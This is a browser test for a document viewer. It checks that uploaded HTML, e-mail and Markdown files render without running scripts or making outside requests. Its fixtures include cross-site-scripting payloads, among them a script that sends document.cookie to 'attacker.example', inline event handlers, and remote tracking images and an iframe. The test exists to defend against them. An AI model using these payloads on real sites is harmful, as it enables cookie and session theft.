/**
 * A viewer for every format (#53 item 3), in Chromium: a JPEG has a thumbnail that opens it at full size; an HTML
 * page carrying a <script>, an inline handler and a remote image, Markdown with raw HTML, and an e-mail with an HTML
 * body doing the same, are each shown rendered on the document's View page; no script of theirs runs and no request
 * leaves the daemon. Slides are shown as their text under slide markers, where a search result opens them; a PDF and a
 * text file open in the browser as themselves.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { addUser, REPO, type TestUser } from '../helpers/daemon.js';
import { makePdf } from '../ingest/build-fixtures.js';
import { uploadFiles } from '../ingest/pipeline/helpers.js';
import { axeViolations, browserSuite, browserTitle, HAVE_CHROMIUM, signIn, watchCsp } from './browser.js';

const HOSTILE = `<!DOCTYPE html>
<html><head><title>Harbour office</title><script src="https://attacker.example/lib.js"></script></head><body>
<h1>Harbour report</h1>
<p>The crane on pier four was repaired in March.</p>
<script>window.pwned = 'script'; fetch('https://attacker.example/steal?c=' + document.cookie);</script>
<img src="https://attacker.example/pixel.png" alt="tracker">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="inline dot" onerror="window.pwned = 'onerror'">
<p onmouseover="window.pwned = 'handler'">Tide tables are posted weekly.</p>
<a href="https://example.org/more">More about the harbour</a>
<p><a href="/about">About the office</a> · <a href="tides.html">Tides</a></p>
</body></html>`;

const EMAIL = [
  'From: Harbour Office <office@example.org>',
  'To: Crew <crew@example.org>',
  'Subject: Pier four crane',
  'Date: Tue, 3 Mar 2026 09:00:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  `<p>The pier four crane is back in service.</p><script>window.pwned = 'mail'</script><img src="http://attacker.example/open.gif"><iframe src="https://attacker.example/"></iframe>`,
  '',
].join('\r\n');

const MARKDOWN = `---
title: Tides of the harbour
---
# Tide log

The *spring* tide peaks at **dawn**.

<script>window.pwned = 'markdown'</script>
<img src="https://attacker.example/md.png" onerror="window.pwned = 'onerror'">

![a remote chart](https://attacker.example/chart.png)
`;

describe.skipIf(!HAVE_CHROMIUM)(browserTitle('the viewer shows every format, safely'), () => {
  const suite = browserSuite();
  let user: TestUser;

  it('shows a JPEG, HTML, Markdown, an e-mail, slides, a PDF and text; none of their scripts runs; no request leaves the daemon', { timeout: 300_000 }, async () => {
    user = await addUser(suite.d);
    const jpeg = await sharp({ create: { width: 1600, height: 900, channels: 3, background: { r: 30, g: 90, b: 160 } } }).jpeg().toBuffer();
    const fixture = (name: string) => readFileSync(join(REPO, 'test/fixtures/formats', name));
    const pdf = makePdf([[{ lines: ['The survey counted forty seals.'] }]]);
    const up = await uploadFiles(suite.d, user.apiKey, [
      { name: 'harbour.jpg', bytes: jpeg },
      { name: 'report.html', bytes: Buffer.from(HOSTILE) },
      { name: 'crane.eml', bytes: Buffer.from(EMAIL) },
      { name: 'tides.md', bytes: Buffer.from(MARKDOWN) },
      { name: 'briefing.pptx', bytes: fixture('briefing.pptx') },
      { name: 'survey.pdf', bytes: pdf },
      { name: 'notes.txt', bytes: Buffer.from('Buoy 7 was repainted red in April.\n') },
    ], { query: '?wait=true&wait_timeout=300' });
    expect(up.status, JSON.stringify(up.body)).toBe(200);
    const [image, page1, mail, markdown, slides, survey, notes] = (up.body.documents as { id: string }[]).map((x) => x.id);
    const context = await suite.browser.newContext({ viewport: { width: 1200, height: 900 } });
    const page = await context.newPage();
    const requests: string[] = [];
    const csp: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    watchCsp(page, csp);
    try {
      await signIn(page, suite.d.url, user);

      // A scan's page has its thumbnail, which opens it at full size; so does View.
      await page.goto(`${suite.d.url}/documents/${image}`);
      const thumb = page.locator('#preview img.thumb');
      await thumb.waitFor();
      await page.waitForFunction("document.querySelector('#preview img.thumb').complete");
      expect(await thumb.evaluate((el) => (el as unknown as { naturalWidth: number }).naturalWidth)).toBe(320);
      await page.click('#preview a.enlarge');
      await page.waitForURL(`${suite.d.url}/documents/${image}/view`);
      const img = page.locator('img.full-size');
      await img.waitFor();
      await page.waitForFunction("document.querySelector('img.full-size').complete");
      expect(await img.evaluate((el) => (el as unknown as { naturalWidth: number }).naturalWidth)).toBe(1600);
      // Its original opens in the browser too, not as a download.
      const photo = await page.request.get(`${suite.d.url}/documents/${image}/file`);
      expect([photo.headers()['content-type'], photo.headers()['content-disposition']?.split(';')[0]]).toEqual(['image/jpeg', 'inline']);
      // The hostile HTML, the e-mail and the Markdown are served as downloads that may load and run nothing, were a
      // browser to show them anyway: only the viewer shows them, as text.
      for (const id of [page1, mail, markdown]) {
        const original = await page.request.get(`${suite.d.url}/documents/${id}/file`);
        expect(original.status()).toBe(200);
        expect(original.headers()['content-disposition']?.split(';')[0], id).toBe('attachment');
        expect(original.headers()['content-security-policy'], id).toMatch(/^default-src 'none';/);
        expect(original.headers()['x-content-type-options'], id).toBe('nosniff');
      }
      await page.goto(`${suite.d.url}/documents/${image}`);
      await page.click('a.view');
      await page.waitForURL(`${suite.d.url}/documents/${image}/view`);

      await page.goto(`${suite.d.url}/documents/${page1}/view`);
      // Its heading sits under the page's one h1, the document's name.
      expect(await page.locator('h1').allTextContents()).toEqual(['report.html']);
      expect(await page.locator('article.rendered h2').textContent()).toBe('Harbour report');
      expect(await page.locator('article.rendered').textContent()).toContain('Tide tables are posted weekly.');
      expect(await page.locator('article.rendered').textContent()).not.toContain('Harbour office');
      await page.hover('article.rendered p:nth-of-type(2)');
      expect(await page.locator('article.rendered script, article.rendered [onmouseover], article.rendered [onerror]').count()).toBe(0);
      // Only the inline (data:) image stays; the remote one is gone whole.
      expect(await page.locator('article.rendered img').evaluateAll((els) => els.map((el) => el.getAttribute('alt')))).toEqual(['inline dot']);
      expect(await page.locator('article.rendered a[href]').getAttribute('rel')).toBe('noopener noreferrer nofollow');
      // Its own site's relative links would lead into docsearch here: they stay as text, the absolute one a link.
      expect(await page.locator('article.rendered a[href]').evaluateAll((els) => els.map((el) => el.getAttribute('href')))).toEqual(['https://example.org/more']);
      expect(await page.locator('article.rendered').textContent()).toContain('About the office · Tides');
      expect(await axeViolations(page)).toEqual([]);

      await page.goto(`${suite.d.url}/documents/${mail}/view`);
      expect(await page.locator('.email-headers').textContent()).toContain('Pier four crane');
      // Its date as people read times, not the ISO string the parser keeps (#61 Low 25).
      expect(await page.locator('.email-headers time').textContent()).toBe('2026-03-03 09:00 UTC');
      expect(await page.locator('.email-headers').textContent()).not.toContain('T09:00:00');
      expect(await page.locator('article.rendered').textContent()).toContain('The pier four crane is back in service.');
      expect(await page.locator('article.rendered script, article.rendered iframe, article.rendered img').count()).toBe(0);
      expect(await page.evaluate('window.pwned')).toBeUndefined();

      await page.goto(`${suite.d.url}/documents/${markdown}/view`);
      expect(await page.locator('article.rendered h2').textContent()).toBe('Tide log');
      expect(await page.locator('article.rendered em').textContent()).toBe('spring');
      expect(await page.locator('article.rendered').textContent()).not.toContain('Tides of the harbour'); // front matter is no text
      expect(await page.locator('article.rendered strong').textContent()).toBe('dawn');
      expect(await page.locator('article.rendered script, article.rendered img, article.rendered [onerror]').count()).toBe(0);
      expect(await page.evaluate('window.pwned')).toBeUndefined();

      // Slides as slides; a search result's link opens the viewer at the slide, the passage marked.
      await page.goto(`${suite.d.url}/search?q=${encodeURIComponent('deckhands mooring lines gale')}&view=passages&mode=keyword`);
      const result = page.locator('li.result', { has: page.locator('a.filename', { hasText: 'briefing.pptx' }) }).first();
      expect(await result.locator('a.at-match').textContent()).toBe('Open at this passage');
      await result.locator('a.at-match').click();
      await page.waitForURL(new RegExp(`/documents/${slides}/view\\?chunk=\\d+.*#passage$`));
      expect(await page.locator('#slide-3 .slide-number').textContent()).toBe('Slide 3');
      expect(await page.locator('#slide-3 .slide-body').textContent()).toContain('Deckhands double the mooring lines before a gale.');
      expect(await page.locator('#slide-3 mark.answer').count()).toBeGreaterThan(0);
      expect(await page.locator('#slide-2 .slide-number').textContent()).toBe('Slide 2');
      expect(await axeViolations(page)).toEqual([]);

      // A PDF and a text file open as themselves, in the browser, not as a download.
      await page.goto(`${suite.d.url}/documents/${notes}/view`);
      expect(await page.locator('.viewer pre.plain').textContent()).toContain('Buoy 7 was repainted red in April.');
      const shown = await page.request.get(`${suite.d.url}/documents/${survey}/view`, { maxRedirects: 0 });
      expect([shown.status(), shown.headers().location]).toEqual([302, `/documents/${survey}/file`]);
      const original = await page.request.get(`${suite.d.url}/documents/${survey}/view`);
      expect([original.headers()['content-type'], original.headers()['content-disposition']?.split(';')[0]]).toEqual(['application/pdf', 'inline']);

      expect(requests.filter((u) => !u.startsWith(suite.d.url))).toEqual([]);
      expect(csp).toEqual([]);
    } finally {
      await context.close();
    }

    // Through the same access check as the document page: another user finds nothing, a visitor is sent to sign in.
    const other = await addUser(suite.d);
    const theirs = await suite.browser.newContext();
    const anonymous = await suite.browser.newContext();
    try {
      const them = await theirs.newPage();
      await signIn(them, suite.d.url, other);
      const seen = await them.goto(`${suite.d.url}/documents/${page1}/view`);
      expect(seen!.status()).toBe(404);
      expect(await them.content()).not.toContain('Tide tables');
      const visitor = await anonymous.newPage();
      await visitor.goto(`${suite.d.url}/documents/${page1}/view`);
      expect(new URL(visitor.url()).pathname).toBe('/login');
    } finally {
      await theirs.close();
      await anonymous.close();
    }
  });
});
